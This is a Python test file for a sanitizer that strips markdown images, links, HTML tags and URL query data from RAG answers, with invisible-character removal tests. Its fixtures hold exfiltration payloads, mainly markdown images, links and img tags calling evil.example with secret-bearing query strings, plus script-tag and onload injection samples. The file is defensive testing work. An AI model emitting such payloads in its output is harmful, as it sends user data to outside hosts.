from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.clean import strip_invisible
from rag.sanitize import sanitize


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![chart](https://evil.example/p?q=secret) now", "See chart now"),
        ("![](https://evil.example/p?q=secret)", ""),
        ("Read [the page](https://evil.example/?q=secret).", "Read the page."),
        ("Read [the page](<https://evil.example/a b> 'title').", "Read the page."),
        ("![chart][x] ok\n\n[x]: https://evil.example/secret", "chart ok\n\n"),
        ('A <img src="https://evil.example/?q=secret"> b', "A  b"),
        ("A <a href='//evil.example'>link</a> b", "A link b"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("Go to <https://host.example/a?q=secret#x>.", "Go to https://host.example/a."),
        ("Go to https://user:secret@host.example/a?q=secret!", "Go to https://host.example/a!"),
        ("Go to www.host.example?q=secret", "Go to www.host.example"),
        ("![a![b](https://x.example/1)](https://x.example/2)", "ab"),
        ("<scr<b>ipt>", ""),
        ("<mine/onload=x", "< mine/onload=x"),
    ],
)
def test_what_a_renderer_would_fetch_or_follow_with_data_goes_and_its_text_stays(text: str, expected: str) -> None:
    assert sanitize(text).replace("  ", " ") == expected.replace("  ", " ")


@pytest.mark.parametrize(
    "text",
    [
        "Leave is 20 weeks [1][2].",
        "**Bold**, *slanted* and `code`",
        "- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "a < b and c > d, 3<4",
        "It is at https://intranet.example/policies/leave.",
        "Prices: € 5, naïve café, 日本語",
    ],
)
def test_harmless_answers_stay_as_they_are(text: str) -> None:
    assert sanitize(text) == text


def test_control_bidi_zero_width_and_tag_characters_are_removed() -> None:
    assert strip_invisible("a\u202eb\u200bc\x00d\U000e0041e\ufefff\u2028g\th\r\ni") == "abcdef\ng\th\ni"


PIECES = [
    "![",
    "](",
    ")",
    "[",
    "]",
    "<img src=",
    ">",
    "https://e.example/?q=s",
    "<",
    "a",
    " ",
    "\n",
    "]:",
    "!",
    "<b>",
    "www.",
    "//",
    "@",
    "?",
    "#",
    ".",
]
ANSWERS = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=30).map("".join)


@given(ANSWERS)
def test_nothing_that_carries_data_survives(text: str) -> None:
    clean = sanitize(text)
    assert "](" not in clean
    assert "![" not in clean
    assert not re.search(r"<[a-zA-Z/!?]", clean)
    assert not re.search(r"(?:https?://|www\.)[^\s<>\"'`)\]]*\?\w", clean)


@given(ANSWERS)
def test_sanitizing_twice_is_sanitizing_once(text: str) -> None:
    clean = sanitize(text)
    assert sanitize(clean) == clean


@given(st.text(st.characters(categories=["L", "N", "Zs"]), max_size=60))
def test_words_and_numbers_are_never_lost(text: str) -> None:
    assert sanitize(text) == text
